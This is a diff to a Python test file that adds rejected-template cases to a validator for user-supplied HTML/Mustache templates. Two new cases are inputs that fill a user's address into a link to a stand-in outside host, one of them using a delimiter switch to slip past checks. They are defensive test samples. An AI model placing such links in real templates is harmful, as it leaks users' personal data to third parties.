@@ -385,6 +385,11 @@ BAD_TEMPLATES = [
     (TOP + BUTTON, "lacks what ours has in its text: <address>"),
     (TOP + BUTTON + "<address>me@look.example</address>" + BOTTOM,
 	"has more than ours has in its text: <address>"),
+    (TOP + '\n<a href="https://look.example/?who={{address}}">x</a>' + BUTTON
+	+ BOTTOM, "line 2: <a> has something filled into its link"),
+    (TOP.replace("}}", "}}<meta name=viewport content=user-scalable=no>")
+	+ BUTTON + BOTTOM, "line 1: <meta> keeps people from zooming"),
+    ("<meta charset=latin2>" + TOP + BUTTON + BOTTOM, "charset=utf-8"),
     (TOP + f"<fieldset disabled>{BUTTON}</fieldset>" + BOTTOM,
 	"the page lacks what ours has in form 1"),
     (b"x\n\xff", "line 2: this is no UTF-8"),
@@ -452,7 +457,9 @@ def test_own_template(pages, tmp_path):
     (TOP + "{{#title}}" + BUTTON, "a section is not closed"),
     # In a preview it is there.
     (TOP + "{{#takes}}" + BUTTON + "{{/takes}}" + BOTTOM, "lacks what"),
-    (BUTTON * 2000, "too large or too deep")], ids=range(5))
+    (TOP + '{{=<% %>=}}<a href="https://x.example/?<%address%>">x</a>'
+	"<%>button%><%>bottom%>", "something filled into its link"),
+    (BUTTON * 2000, "too large or too deep")], ids=range(6))
 def test_whoever_spoils_a_template_cannot_take_the_button(pages, template,
     why):
 	"""Written past all checks, into the database itself."""
